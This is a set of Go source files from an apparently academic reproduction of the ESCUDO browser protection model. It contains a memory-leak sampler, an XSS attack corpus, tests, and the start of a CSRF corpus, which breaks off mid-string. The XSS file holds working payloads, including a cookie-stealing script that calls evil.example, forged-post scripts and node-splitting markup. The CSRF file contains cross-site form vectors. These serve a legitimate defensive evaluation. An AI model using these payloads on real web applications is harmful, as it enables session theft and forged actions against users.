	// PostWarmupGoroutines is the goroutine count captured by Mark()
	// after the driver's warm-up — the baseline the soak gate bands
	// the final count against (0 when Mark was never called).
	PostWarmupGoroutines int64 `json:"post_warmup_goroutines,omitempty"`
	// HeapAllocBytes tracks runtime.MemStats.HeapAlloc.
	HeapAllocBytes SeriesInt `json:"heap_alloc_bytes"`
	// HeapMonotonic reports whether heap usage only ever grew across
	// samples — the monotone-growth signature of a leak. A healthy GC'd
	// process dips between collections, so the soak gate asserts false.
	HeapMonotonic bool `json:"heap_monotonic"`
	// HeapSysBytes is the last-sampled runtime.MemStats.Sys — the
	// process's reserved (RSS-shaped) memory.
	HeapSysBytes int64 `json:"heap_sys_bytes"`
	// GCPauseTotalMs and NumGC are deltas since the sampler started.
	GCPauseTotalMs float64 `json:"gc_pause_total_ms"`
	NumGC          uint32  `json:"num_gc"`
	// HeapSeries, GoroutineSeries, and HeapSysSeries are the retained
	// time series behind the summary: bounded to maxRetainedSamples
	// points by stride-doubling downsampling, spaced SeriesStrideMs
	// apart. They are what the leak verdict regresses over, and what a
	// human plots when the verdict fires. Omitted after a fleet merge —
	// per-process shapes don't sum pointwise.
	HeapSeries      []int64 `json:"heap_series,omitempty"`
	GoroutineSeries []int64 `json:"goroutine_series,omitempty"`
	HeapSysSeries   []int64 `json:"heap_sys_series,omitempty"`
	SeriesStrideMs  float64 `json:"series_stride_ms,omitempty"`
	// Drift is the linear-drift leak verdict computed from HeapSeries
	// at Stop (see ComputeDrift).
	Drift *DriftReport `json:"drift,omitempty"`
}

// maxRetainedSamples bounds the retained series: past it every other
// point is dropped and the stride doubles, so an arbitrarily long
// soak keeps a constant-memory, evenly spaced series.
const maxRetainedSamples = 240

// DriftReport is the linear-drift leak verdict: a least-squares line
// through the retained heap series. A genuine leak grows the heap
// roughly linearly through GC oscillation; the verdict therefore
// requires BOTH a positive slope whose projected growth over the
// window is a substantial fraction of the mean heap AND a meaningful
// absolute growth — so GC noise on a small heap can't fire it, and a
// slow steady leak on a big heap can't hide in the relative term.
type DriftReport struct {
	// SlopeBytesPerSec is the fitted heap growth rate.
	SlopeBytesPerSec float64 `json:"slope_bytes_per_sec"`
	// GrowthFraction is the projected growth over the observed window
	// divided by the mean heap — the relative-drift term.
	GrowthFraction float64 `json:"growth_fraction"`
	// WindowSec is the time span the fit covered.
	WindowSec float64 `json:"window_sec"`
	// Points is how many series points went into the fit.
	Points int `json:"points"`
	// Suspected is the verdict: true when the fitted drift looks like
	// a leak. CI gates on false.
	Suspected bool `json:"leak_suspected"`
}

// Drift-verdict thresholds: the projected growth over the window must
// exceed a quarter of the mean heap AND 8 MiB before the verdict
// fires, and the fit needs enough points and span to mean anything.
const (
	driftMinPoints      = 8
	driftMinWindowSec   = 5.0
	driftMinFraction    = 0.25
	driftMinGrowthBytes = 8 << 20
)

// ComputeDrift fits a least-squares line through HeapSeries and
// returns the verdict, or nil when the series is too short to judge.
func (s *SamplerStats) ComputeDrift() *DriftReport {
	n := len(s.HeapSeries)
	if n < driftMinPoints || s.SeriesStrideMs <= 0 {
		return nil
	}
	window := s.SeriesStrideMs / 1e3 * float64(n-1)
	if window < driftMinWindowSec {
		return nil
	}
	// Least squares with x in seconds from the first point.
	var sumX, sumY, sumXY, sumXX, mean float64
	for i, y := range s.HeapSeries {
		x := float64(i) * s.SeriesStrideMs / 1e3
		fy := float64(y)
		sumX += x
		sumY += fy
		sumXY += x * fy
		sumXX += x * x
	}
	fn := float64(n)
	mean = sumY / fn
	denom := fn*sumXX - sumX*sumX
	if denom == 0 || mean <= 0 {
		return nil
	}
	slope := (fn*sumXY - sumX*sumY) / denom
	growth := slope * window
	d := &DriftReport{
		SlopeBytesPerSec: slope,
		GrowthFraction:   growth / mean,
		WindowSec:        window,
		Points:           n,
	}
	d.Suspected = growth > driftMinGrowthBytes && d.GrowthFraction > driftMinFraction
	return d
}

// Merge folds another process's sampler stats in (cluster shard
// merging): series sum process contributions, GC work adds up, and
// HeapMonotonic stays true only when every worker grew monotonically.
func (s *SamplerStats) Merge(o SamplerStats) {
	s.Samples += o.Samples
	if o.IntervalMs > s.IntervalMs {
		s.IntervalMs = o.IntervalMs
	}
	s.Goroutines.merge(o.Goroutines)
	s.PostWarmupGoroutines += o.PostWarmupGoroutines
	s.HeapAllocBytes.merge(o.HeapAllocBytes)
	s.HeapMonotonic = s.HeapMonotonic && o.HeapMonotonic
	s.HeapSysBytes += o.HeapSysBytes
	s.GCPauseTotalMs += o.GCPauseTotalMs
	s.NumGC += o.NumGC
	// Per-process series don't align pointwise across the fleet; the
	// merged view keeps only the fitted drift (slopes sum — each worker
	// leaks its own bytes/sec) and ORs the verdict, so one leaking
	// worker fails the fleet gate.
	if o.Drift != nil {
		if s.Drift == nil {
			s.Drift = &DriftReport{}
		}
		s.Drift.SlopeBytesPerSec += o.Drift.SlopeBytesPerSec
		s.Drift.GrowthFraction += o.Drift.GrowthFraction
		if o.Drift.WindowSec > s.Drift.WindowSec {
			s.Drift.WindowSec = o.Drift.WindowSec
		}
		s.Drift.Points += o.Drift.Points
		s.Drift.Suspected = s.Drift.Suspected || o.Drift.Suspected
	}
	s.HeapSeries, s.GoroutineSeries, s.HeapSysSeries = nil, nil, nil
	s.SeriesStrideMs = 0
}

// Sampler periodically samples runtime health — goroutine count, heap
// in use, reserved memory, GC pause time — into registry gauges and a
// running summary. One Sampler serves a whole process.
type Sampler struct {
	reg      *Registry
	interval time.Duration

	mu        sync.Mutex
	stats     SamplerStats
	started   bool
	baseGC    uint32
	basePause uint64
	// strideTicks/tick implement the stride-doubling downsampler: only
	// every strideTicks-th sample is retained in the series, and when
	// the series fills, every other retained point is dropped and the
	// stride doubles.
	strideTicks int
	tick        int

	stop chan struct{}
	done chan struct{}

	gGoroutines *Gauge
	gHeapAlloc  *Gauge
	gHeapSys    *Gauge
	gGCPauseNs  *Gauge
	gNumGC      *Gauge
}

// NewSampler builds a sampler publishing into reg (nil is allowed:
// the summary still accumulates, nothing is exported). interval <= 0
// defaults to one second.
func NewSampler(reg *Registry, interval time.Duration) *Sampler {
	if interval <= 0 {
		interval = time.Second
	}
	s := &Sampler{
		reg:      reg,
		interval: interval,
		stop:     make(chan struct{}),
		done:     make(chan struct{}),
	}
	s.stats.IntervalMs = float64(interval.Nanoseconds()) / 1e6
	s.stats.HeapMonotonic = true
	s.stats.SeriesStrideMs = s.stats.IntervalMs
	s.strideTicks = 1
	if reg != nil {
		s.gGoroutines = reg.Gauge("escudo_goroutines")
		s.gHeapAlloc = reg.Gauge("escudo_heap_alloc_bytes")
		s.gHeapSys = reg.Gauge("escudo_heap_sys_bytes")
		s.gGCPauseNs = reg.Gauge("escudo_gc_pause_total_ns")
		s.gNumGC = reg.Gauge("escudo_gc_cycles_total")
	}
	return s
}

// Start samples once immediately (so short runs still have a first
// sample) and then on every interval tick until Stop.
func (s *Sampler) Start() {
	s.mu.Lock()
	if s.started {
		s.mu.Unlock()
		return
	}
	s.started = true
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	s.baseGC = m.NumGC
	s.basePause = m.PauseTotalNs
	s.mu.Unlock()

	s.Sample()
	go func() {
		defer close(s.done)
		t := time.NewTicker(s.interval)
		defer t.Stop()
		for {
			select {
			case <-t.C:
				s.Sample()
			case <-s.stop:
				return
			}
		}
	}()
}

// Stop halts the background loop, takes one final sample, and returns
// the summary.
func (s *Sampler) Stop() SamplerStats {
	s.mu.Lock()
	started := s.started
	s.mu.Unlock()
	if started {
		select {
		case <-s.stop:
		default:
			close(s.stop)
		}
		<-s.done
	}
	s.Sample()
	s.mu.Lock()
	s.stats.Drift = s.stats.ComputeDrift()
	s.mu.Unlock()
	return s.Stats()
}

// halveSeries drops every other point in place (keeping even indices,
// so the first point survives) — one stride-doubling step.
func halveSeries(v []int64) []int64 {
	n := 0
	for i := 0; i < len(v); i += 2 {
		v[n] = v[i]
		n++
	}
	return v[:n]
}

// Sample takes one observation now. Phase boundaries call it so the
// series brackets the interesting moments even when the run is
// shorter than the tick interval.
func (s *Sampler) Sample() {
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	goroutines := int64(runtime.NumGoroutine())

	s.mu.Lock()
	first := s.stats.Samples == 0
	prevHeap := s.stats.HeapAllocBytes.Last
	s.stats.Samples++
	s.stats.Goroutines.observe(goroutines, first)
	s.stats.HeapAllocBytes.observe(int64(m.HeapAlloc), first)
	if !first && int64(m.HeapAlloc) < prevHeap {
		s.stats.HeapMonotonic = false
	}
	s.stats.HeapSysBytes = int64(m.Sys)
	s.stats.GCPauseTotalMs = float64(m.PauseTotalNs-s.basePause) / 1e6
	s.stats.NumGC = m.NumGC - s.baseGC
	if s.tick%s.strideTicks == 0 {
		s.stats.HeapSeries = append(s.stats.HeapSeries, int64(m.HeapAlloc))
		s.stats.GoroutineSeries = append(s.stats.GoroutineSeries, goroutines)
		s.stats.HeapSysSeries = append(s.stats.HeapSysSeries, int64(m.Sys))
		if len(s.stats.HeapSeries) > maxRetainedSamples {
			s.stats.HeapSeries = halveSeries(s.stats.HeapSeries)
			s.stats.GoroutineSeries = halveSeries(s.stats.GoroutineSeries)
			s.stats.HeapSysSeries = halveSeries(s.stats.HeapSysSeries)
			s.strideTicks *= 2
			s.stats.SeriesStrideMs *= 2
		}
	}
	s.tick++
	s.mu.Unlock()

	if s.gGoroutines != nil {
		s.gGoroutines.Set(goroutines)
		s.gHeapAlloc.Set(int64(m.HeapAlloc))
		s.gHeapSys.Set(int64(m.Sys))
		s.gGCPauseNs.Set(int64(m.PauseTotalNs - s.basePause))
		s.gNumGC.Set(int64(m.NumGC - s.baseGC))
	}
}

// Mark records the post-warmup goroutine baseline the soak gate bands
// the run's final count against.
func (s *Sampler) Mark() {
	g := int64(runtime.NumGoroutine())
	s.mu.Lock()
	s.stats.PostWarmupGoroutines = g
	s.mu.Unlock()
}

// Stats snapshots the summary so far. The retained series are copied
// so the snapshot can't be mutated by later sampling.
func (s *Sampler) Stats() SamplerStats {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := s.stats
	out.HeapSeries = append([]int64(nil), s.stats.HeapSeries...)
	out.GoroutineSeries = append([]int64(nil), s.stats.GoroutineSeries...)
	out.HeapSysSeries = append([]int64(nil), s.stats.HeapSysSeries...)
	if s.stats.Drift != nil {
		d := *s.stats.Drift
		out.Drift = &d
	}
	return out
}
