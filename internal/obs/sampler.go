package obs

import (
	"runtime"
	"sync"
	"time"
)

// SeriesInt summarizes one sampled gauge over a run: the first and
// last observations plus the running min/max. It is the shape the
// leak gates read — "goroutines returned to the post-warmup band"
// is Last vs PostWarmup, "heap did not grow monotonically" is the
// Monotonic flag next to the heap series.
type SeriesInt struct {
	First int64 `json:"first"`
	Last  int64 `json:"last"`
	Min   int64 `json:"min"`
	Max   int64 `json:"max"`
}

// observe folds one sample into the series.
func (s *SeriesInt) observe(v int64, first bool) {
	if first {
		s.First, s.Min, s.Max = v, v, v
	}
	s.Last = v
	if v < s.Min {
		s.Min = v
	}
	if v > s.Max {
		s.Max = v
	}
}

// merge folds another worker's series in: Max/Min span the fleet,
// First/Last sum (each process contributes its own goroutines/heap).
func (s *SeriesInt) merge(o SeriesInt) {
	s.First += o.First
	s.Last += o.Last
	s.Min += o.Min
	s.Max += o.Max
}

// SamplerStats is a run's runtime-health summary: the obs section of
// BENCH_engine.json carries one per process, and the cluster
// supervisor merges the workers' into a fleet view.
type SamplerStats struct {
	Samples    int     `json:"samples"`
	IntervalMs float64 `json:"interval_ms"`
	// Goroutines tracks runtime.NumGoroutine.
	Goroutines SeriesInt `json:"goroutines"`
	// PostWarmupGoroutines is the goroutine count captured by Mark()
	// after the driver's warm-up — the baseline the soak gate bands
	// the final count against (0 when Mark was never called).
	PostWarmupGoroutines int64 `json:"post_warmup_goroutines,omitempty"`
	// HeapAllocBytes tracks runtime.MemStats.HeapAlloc.
	HeapAllocBytes SeriesInt `json:"heap_alloc_bytes"`
	// HeapMonotonic reports whether heap usage only ever grew across
	// samples — the monotone-growth signature of a leak. A healthy GC'd
	// process dips between collections, so the soak gate asserts false.
	HeapMonotonic bool `json:"heap_monotonic"`
	// HeapSysBytes is the last-sampled runtime.MemStats.Sys — the
	// process's reserved (RSS-shaped) memory.
	HeapSysBytes int64 `json:"heap_sys_bytes"`
	// GCPauseTotalMs and NumGC are deltas since the sampler started.
	GCPauseTotalMs float64 `json:"gc_pause_total_ms"`
	NumGC          uint32  `json:"num_gc"`
}

// Merge folds another process's sampler stats in (cluster shard
// merging): series sum process contributions, GC work adds up, and
// HeapMonotonic stays true only when every worker grew monotonically.
func (s *SamplerStats) Merge(o SamplerStats) {
	s.Samples += o.Samples
	if o.IntervalMs > s.IntervalMs {
		s.IntervalMs = o.IntervalMs
	}
	s.Goroutines.merge(o.Goroutines)
	s.PostWarmupGoroutines += o.PostWarmupGoroutines
	s.HeapAllocBytes.merge(o.HeapAllocBytes)
	s.HeapMonotonic = s.HeapMonotonic && o.HeapMonotonic
	s.HeapSysBytes += o.HeapSysBytes
	s.GCPauseTotalMs += o.GCPauseTotalMs
	s.NumGC += o.NumGC
}

// Sampler periodically samples runtime health — goroutine count, heap
// in use, reserved memory, GC pause time — into registry gauges and a
// running summary. One Sampler serves a whole process.
type Sampler struct {
	reg      *Registry
	interval time.Duration

	mu        sync.Mutex
	stats     SamplerStats
	started   bool
	baseGC    uint32
	basePause uint64

	stop chan struct{}
	done chan struct{}

	gGoroutines *Gauge
	gHeapAlloc  *Gauge
	gHeapSys    *Gauge
	gGCPauseNs  *Gauge
	gNumGC      *Gauge
}

// NewSampler builds a sampler publishing into reg (nil is allowed:
// the summary still accumulates, nothing is exported). interval <= 0
// defaults to one second.
func NewSampler(reg *Registry, interval time.Duration) *Sampler {
	if interval <= 0 {
		interval = time.Second
	}
	s := &Sampler{
		reg:      reg,
		interval: interval,
		stop:     make(chan struct{}),
		done:     make(chan struct{}),
	}
	s.stats.IntervalMs = float64(interval.Nanoseconds()) / 1e6
	s.stats.HeapMonotonic = true
	if reg != nil {
		s.gGoroutines = reg.Gauge("escudo_goroutines")
		s.gHeapAlloc = reg.Gauge("escudo_heap_alloc_bytes")
		s.gHeapSys = reg.Gauge("escudo_heap_sys_bytes")
		s.gGCPauseNs = reg.Gauge("escudo_gc_pause_total_ns")
		s.gNumGC = reg.Gauge("escudo_gc_cycles_total")
	}
	return s
}

// Start samples once immediately (so short runs still have a first
// sample) and then on every interval tick until Stop.
func (s *Sampler) Start() {
	s.mu.Lock()
	if s.started {
		s.mu.Unlock()
		return
	}
	s.started = true
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	s.baseGC = m.NumGC
	s.basePause = m.PauseTotalNs
	s.mu.Unlock()

	s.Sample()
	go func() {
		defer close(s.done)
		t := time.NewTicker(s.interval)
		defer t.Stop()
		for {
			select {
			case <-t.C:
				s.Sample()
			case <-s.stop:
				return
			}
		}
	}()
}

// Stop halts the background loop, takes one final sample, and returns
// the summary.
func (s *Sampler) Stop() SamplerStats {
	s.mu.Lock()
	started := s.started
	s.mu.Unlock()
	if started {
		select {
		case <-s.stop:
		default:
			close(s.stop)
		}
		<-s.done
	}
	s.Sample()
	return s.Stats()
}

// Sample takes one observation now. Phase boundaries call it so the
// series brackets the interesting moments even when the run is
// shorter than the tick interval.
func (s *Sampler) Sample() {
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	goroutines := int64(runtime.NumGoroutine())

	s.mu.Lock()
	first := s.stats.Samples == 0
	prevHeap := s.stats.HeapAllocBytes.Last
	s.stats.Samples++
	s.stats.Goroutines.observe(goroutines, first)
	s.stats.HeapAllocBytes.observe(int64(m.HeapAlloc), first)
	if !first && int64(m.HeapAlloc) < prevHeap {
		s.stats.HeapMonotonic = false
	}
	s.stats.HeapSysBytes = int64(m.Sys)
	s.stats.GCPauseTotalMs = float64(m.PauseTotalNs-s.basePause) / 1e6
	s.stats.NumGC = m.NumGC - s.baseGC
	s.mu.Unlock()

	if s.gGoroutines != nil {
		s.gGoroutines.Set(goroutines)
		s.gHeapAlloc.Set(int64(m.HeapAlloc))
		s.gHeapSys.Set(int64(m.Sys))
		s.gGCPauseNs.Set(int64(m.PauseTotalNs - s.basePause))
		s.gNumGC.Set(int64(m.NumGC - s.baseGC))
	}
}

// Mark records the post-warmup goroutine baseline the soak gate bands
// the run's final count against.
func (s *Sampler) Mark() {
	g := int64(runtime.NumGoroutine())
	s.mu.Lock()
	s.stats.PostWarmupGoroutines = g
	s.mu.Unlock()
}

// Stats snapshots the summary so far.
func (s *Sampler) Stats() SamplerStats {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.stats
}
