package attack

import (
	"fmt"
	"strconv"
)

// The XSS corpus. §6.4: "We created 4 XSS attacks for each web
// application. In phpBB, we created XSS attacks for posting new
// messages on behalf of victim users and for modifying existing
// messages. In PHP-Calendar, we created XSS attacks for creating new
// events on behalf of victim users, and modifying existing events."
// The corpus here covers those two goals plus the two classic
// variants the paper's §5 defenses target: session-cookie theft and
// node-splitting privilege escalation.

// forumXSS builds the four phpBB XSS attacks. In each, the attacker
// (a registered user) plants a hostile topic; the victim — logged in —
// views it.
func forumXSS() []Attack {
	return []Attack{
		{
			Name: "phpbb-xss-cookie-theft",
			Kind: KindXSS,
			App:  "phpBB",
			Description: "Hostile topic exfiltrates document.cookie to the attacker's " +
				"collector via an image fetch. Success: the collector receives the " +
				"phpbb2mysql_sid session cookie.",
			Run: func(e *Env) (bool, error) {
				payload := `<script>var i = new Image(); i.src = "http://evil.example/steal?c=" + encodeURIComponent(document.cookie);</script>`
				id := e.Forum.SeedTopic(AttackerUser, "innocent looking topic", payload)
				if _, err := e.Victim.Navigate(e.ForumOrigin.URL("/viewtopic?t=" + strconv.Itoa(id))); err != nil {
					return false, err
				}
				return hasSessionValue(e.EvilReceived("/steal"), "phpbb2mysql_sid"), nil
			},
		},
		{
			Name: "phpbb-xss-deface",
			Kind: KindXSS,
			App:  "phpBB",
			Description: "Hostile topic script modifies the forum's trusted announcement " +
				"banner through the DOM API. Success: the banner text changed.",
			Run: func(e *Env) (bool, error) {
				// The announcement is on the index page; the hostile
				// subject renders there inside its ring-3 scope.
				payload := `<script>document.getElementById("announcement").innerText = "OWNED BY MALLORY";</script>`
				e.Forum.SeedTopic(AttackerUser, payload, "body")
				p, err := e.Victim.Navigate(e.ForumOrigin.URL("/"))
				if err != nil {
					return false, err
				}
				return innerTextByID(p, "announcement") != "Community Forum", nil
			},
		},
		{
			Name: "phpbb-xss-forged-post",
			Kind: KindXSS,
			App:  "phpBB",
			Description: "Hostile topic script posts a new message on behalf of the victim " +
				"via XMLHttpRequest (the paper's 'posting new messages on behalf of " +
				"victim users'). Success: a topic authored by the victim appears.",
			Run: func(e *Env) (bool, error) {
				payload := `<script>var x = new XMLHttpRequest();` +
					`x.open("POST", "/posting");` +
					`x.send("subject=FORGED-BY-XSS&message=spam");</script>`
				id := e.Forum.SeedTopic(AttackerUser, "click me", payload)
				if _, err := e.Victim.Navigate(e.ForumOrigin.URL("/viewtopic?t=" + strconv.Itoa(id))); err != nil {
					return false, err
				}
				return forumTopicWithSubject(e.Forum, "FORGED-BY-XSS", VictimUser), nil
			},
		},
		{
			Name: "phpbb-xss-node-split",
			Kind: KindXSS,
			App:  "phpBB",
			Description: "Hostile reply attempts node-splitting: it closes the ring-3 " +
				"scope and opens a forged ring-0 scope whose script modifies an " +
				"existing message (§5). Success: the victim's post was modified.",
			Run: func(e *Env) (bool, error) {
				victimTopic := e.Forum.SeedTopic(VictimUser, "victim topic", "original text")
				payload := `</div><div ring=0 r=3 w=3 x=3>` +
					`<script>document.getElementById("post-` + strconv.Itoa(victimTopic) + `").innerText = "MODIFIED";</script>`
				e.Forum.SeedReply(victimTopic, AttackerUser, payload)
				p, err := e.Victim.Navigate(e.ForumOrigin.URL("/viewtopic?t=" + strconv.Itoa(victimTopic)))
				if err != nil {
					return false, err
				}
				return innerTextByID(p, "post-"+strconv.Itoa(victimTopic)) != "victim topic original text", nil
			},
		},
	}
}

// calXSS builds the four PHP-Calendar XSS attacks.
func calXSS() []Attack {
	return []Attack{
		{
			Name: "phpcal-xss-cookie-theft",
			Kind: KindXSS,
			App:  "PHP-Calendar",
			Description: "Hostile event exfiltrates document.cookie to the attacker's " +
				"collector. Success: the collector receives the phpc_session cookie.",
			Run: func(e *Env) (bool, error) {
				payload := `<script>var i = new Image(); i.src = "http://evil.example/steal?c=" + encodeURIComponent(document.cookie);</script>`
				e.Cal.SeedEvent(AttackerUser, 13, payload)
				if _, err := e.Victim.Navigate(e.CalOrigin.URL("/")); err != nil {
					return false, err
				}
				return hasSessionValue(e.EvilReceived("/steal"), "phpc_session"), nil
			},
		},
		{
			Name: "phpcal-xss-deface",
			Kind: KindXSS,
			App:  "PHP-Calendar",
			Description: "Hostile event script rewrites the calendar's trusted title. " +
				"Success: the title changed.",
			Run: func(e *Env) (bool, error) {
				payload := `<script>document.getElementById("caltitle").innerText = "OWNED";</script>`
				e.Cal.SeedEvent(AttackerUser, 5, payload)
				p, err := e.Victim.Navigate(e.CalOrigin.URL("/"))
				if err != nil {
					return false, err
				}
				return innerTextByID(p, "caltitle") != "Group Calendar", nil
			},
		},
		{
			Name: "phpcal-xss-forged-event",
			Kind: KindXSS,
			App:  "PHP-Calendar",
			Description: "Hostile event script creates a new event on behalf of the victim " +
				"via XMLHttpRequest (the paper's 'creating new events on behalf of " +
				"victim users'). Success: an event authored by the victim appears.",
			Run: func(e *Env) (bool, error) {
				payload := `<script>var x = new XMLHttpRequest();` +
					`x.open("POST", "/event");` +
					`x.send("day=28&text=FORGED-EVENT");</script>`
				e.Cal.SeedEvent(AttackerUser, 2, payload)
				if _, err := e.Victim.Navigate(e.CalOrigin.URL("/")); err != nil {
					return false, err
				}
				return calEventWithText(e.Cal, "FORGED-EVENT", VictimUser), nil
			},
		},
		{
			Name: "phpcal-xss-node-split",
			Kind: KindXSS,
			App:  "PHP-Calendar",
			Description: "Hostile event attempts node-splitting to escape its ring-3 scope " +
				"and modify an existing event (§5, the paper's 'modifying existing " +
				"events'). Success: the victim's event text changed.",
			Run: func(e *Env) (bool, error) {
				victimEvent := e.Cal.SeedEvent(VictimUser, 1, "victim event")
				payload := fmt.Sprintf(`</div><div ring=0 r=3 w=3 x=3>`+
					`<script>document.getElementById("event-%d").innerText = "MODIFIED";</script>`, victimEvent)
				e.Cal.SeedEvent(AttackerUser, 1, payload)
				p, err := e.Victim.Navigate(e.CalOrigin.URL("/"))
				if err != nil {
					return false, err
				}
				return innerTextByID(p, "event-"+strconv.Itoa(victimEvent)) != "victim event", nil
			},
		},
	}
}
