package attack

import (
	"testing"

	"repro/internal/browser"
)

// TestCorpusShape pins the §6.4 corpus: 4 XSS + 5 CSRF per app.
func TestCorpusShape(t *testing.T) {
	corpus := Corpus()
	counts := map[string]map[Kind]int{}
	names := map[string]bool{}
	for _, a := range corpus {
		if names[a.Name] {
			t.Errorf("duplicate attack name %q", a.Name)
		}
		names[a.Name] = true
		if counts[a.App] == nil {
			counts[a.App] = map[Kind]int{}
		}
		counts[a.App][a.Kind]++
		if a.Description == "" || a.Run == nil {
			t.Errorf("attack %q incomplete", a.Name)
		}
	}
	for _, app := range []string{"phpBB", "PHP-Calendar"} {
		if got := counts[app][KindXSS]; got != 4 {
			t.Errorf("%s XSS attacks = %d, want 4 (§6.4)", app, got)
		}
		if got := counts[app][KindCSRF]; got != 5 {
			t.Errorf("%s CSRF attacks = %d, want 5 (§6.4)", app, got)
		}
	}
	if len(corpus) != 18 {
		t.Errorf("corpus = %d attacks, want 18", len(corpus))
	}
}

// TestAllAttacksSucceedUnderSOP validates the attacks themselves: in a
// legacy browser with the unhardened apps, every attack must achieve
// its goal — otherwise it is not a real attack and the ESCUDO verdict
// would be vacuous.
func TestAllAttacksSucceedUnderSOP(t *testing.T) {
	for _, r := range RunAll(browser.ModeSOP) {
		if r.Err != nil {
			t.Errorf("%s: harness error: %v", r.Attack.Name, r.Err)
			continue
		}
		if !r.Succeeded {
			t.Errorf("%s: did not succeed under SOP — not a demonstrated attack", r.Attack.Name)
		}
	}
}

// TestAllAttacksNeutralizedUnderEscudo is the paper's headline §6.4
// result: "All the attacks were neutralized in the presence of
// ESCUDO."
func TestAllAttacksNeutralizedUnderEscudo(t *testing.T) {
	for _, r := range RunAll(browser.ModeEscudo) {
		if r.Err != nil {
			t.Errorf("%s: harness error: %v", r.Attack.Name, r.Err)
			continue
		}
		if !r.Neutralized() {
			t.Errorf("%s: SUCCEEDED under ESCUDO — protection failed", r.Attack.Name)
		}
	}
}

// TestCSRFRequestsStillIssued checks the paper's observation that the
// malicious site "still issued the requests" under ESCUDO — the
// neutralization is the missing cookie, not a blocked request.
func TestCSRFRequestsStillIssued(t *testing.T) {
	for _, atk := range Corpus() {
		if atk.Kind != KindCSRF {
			continue
		}
		env, err := NewEnv(browser.ModeEscudo)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := atk.Run(env); err != nil {
			t.Errorf("%s: %v", atk.Name, err)
			continue
		}
		targets := 0
		for _, le := range env.Net.Log() {
			if le.Target == env.ForumOrigin || le.Target == env.CalOrigin {
				targets++
			}
		}
		if targets == 0 {
			t.Errorf("%s: no request reached the target — expected the request to be issued but cookieless", atk.Name)
		}
	}
}

// TestCSRFNeutralizedByMissingCookie verifies the mechanism: under
// ESCUDO the forged request arrives without the session cookie.
func TestCSRFNeutralizedByMissingCookie(t *testing.T) {
	for _, atk := range Corpus() {
		if atk.Kind != KindCSRF || atk.App != "phpBB" {
			continue
		}
		env, err := NewEnv(browser.ModeEscudo)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := atk.Run(env); err != nil {
			t.Errorf("%s: %v", atk.Name, err)
			continue
		}
		for _, le := range env.Net.Log() {
			if le.Target != env.ForumOrigin {
				continue
			}
			if le.HasCookie("phpbb2mysql_sid") {
				t.Errorf("%s: forged request carried the session cookie", atk.Name)
			}
		}
	}
}

// TestXSSCookieTheftMechanism verifies the ESCUDO mechanism for the
// theft attacks: the exfiltration request happens, but document.cookie
// was empty for the ring-3 script.
func TestXSSCookieTheftMechanism(t *testing.T) {
	var theft Attack
	for _, a := range Corpus() {
		if a.Name == "phpbb-xss-cookie-theft" {
			theft = a
		}
	}
	env, err := NewEnv(browser.ModeEscudo)
	if err != nil {
		t.Fatal(err)
	}
	ok, err := theft.Run(env)
	if err != nil {
		t.Fatal(err)
	}
	if ok {
		t.Fatal("theft succeeded under ESCUDO")
	}
	// The collector did receive a request — with an empty cookie
	// string.
	got := env.EvilReceived("/steal")
	if len(got) != 1 {
		t.Fatalf("collector requests = %d, want 1 (exfil channel exists, secret does not leak)", len(got))
	}
	if c := got[0].Get("c"); c != "" {
		t.Errorf("exfiltrated cookie = %q, want empty", c)
	}
}

// TestHardenedAppsResistXSSUnderSOP verifies the §6.4 premise: the
// attacks needed the front-line defenses removed. With hardening back
// on, the XSS corpus fails even in a legacy browser (the payload is
// escaped to inert text), which is why the paper removed input
// validation to isolate the protection model's contribution.
func TestHardenedAppsResistXSSUnderSOP(t *testing.T) {
	for _, atk := range Corpus() {
		if atk.Kind != KindXSS {
			continue
		}
		env, err := NewEnvHardened(browser.ModeSOP)
		if err != nil {
			t.Fatal(err)
		}
		ok, err := atk.Run(env)
		if err != nil {
			t.Errorf("%s: %v", atk.Name, err)
			continue
		}
		if ok {
			t.Errorf("%s: succeeded against the hardened app — input validation should have stopped it", atk.Name)
		}
	}
}

// TestHardenedPhpBBResistsFormCSRF: phpBB's secret-token validation
// stops the POST-based CSRF vector even under SOP (the paper removed
// it for the evaluation). GET vectors against /quickpost and all of
// PHP-Calendar remain exploitable — PHP-Calendar "had no protection
// mechanisms for CSRF attacks".
func TestHardenedPhpBBResistsFormCSRF(t *testing.T) {
	for _, atk := range Corpus() {
		if atk.Name != "phpbb-csrf-form" {
			continue
		}
		env, err := NewEnvHardened(browser.ModeSOP)
		if err != nil {
			t.Fatal(err)
		}
		ok, err := atk.Run(env)
		if err != nil {
			t.Fatal(err)
		}
		if ok {
			t.Error("hardened phpBB accepted a tokenless cross-site POST")
		}
	}
}

// TestResultNeutralized covers the Result helper.
func TestResultNeutralized(t *testing.T) {
	if (Result{Succeeded: true}).Neutralized() {
		t.Error("succeeded attack reported neutralized")
	}
	if !(Result{Succeeded: false}).Neutralized() {
		t.Error("failed attack reported not neutralized")
	}
}

func TestKindString(t *testing.T) {
	if KindXSS.String() != "XSS" || KindCSRF.String() != "CSRF" || Kind(0).String() != "?" {
		t.Error("kind names")
	}
}
