package attack

import (
	"fmt"
)

// The CSRF corpus. §6.4: "We created five CSRF attacks for each web
// application. We set up a malicious web site that crafted
// cross-origin requests for the two web applications, when accessed by
// a user." Each vector below is a distinct HTTP-request-issuing
// principal from Table 1: img, form, anchor, iframe, and a
// script-driven top-level navigation.
//
// The paper's verdict: "the malicious site still issued the requests
// ... However, ESCUDO did not attach the session cookie automatically
// to the requests (because of the insufficient privileges of the
// principals), neutralizing the attacks." Our success predicate is
// therefore server-side state change, which requires the session
// cookie to have arrived.

// csrfVector describes one request-issuing vector on the evil page.
type csrfVector struct {
	name string
	desc string
	// page builds the evil markup around the forged URL.
	page func(forgedURL string) string
	// click marks vectors needing a user click on the lure anchor.
	click bool
}

func vectors() []csrfVector {
	return []csrfVector{
		{
			name: "img",
			desc: "an <img> whose src is the forged state-changing GET",
			page: func(u string) string {
				return fmt.Sprintf(`<html><body><p>cute cats</p><img src="%s"></body></html>`, u)
			},
		},
		{
			name: "form",
			desc: "an auto-submitting cross-site POST form",
			page: func(u string) string {
				return fmt.Sprintf(`<html><body>`+
					`<form id=f action="%s" method="post">`+
					`<input name=subject value="CSRF-TARGET"><input name=message value="spam">`+
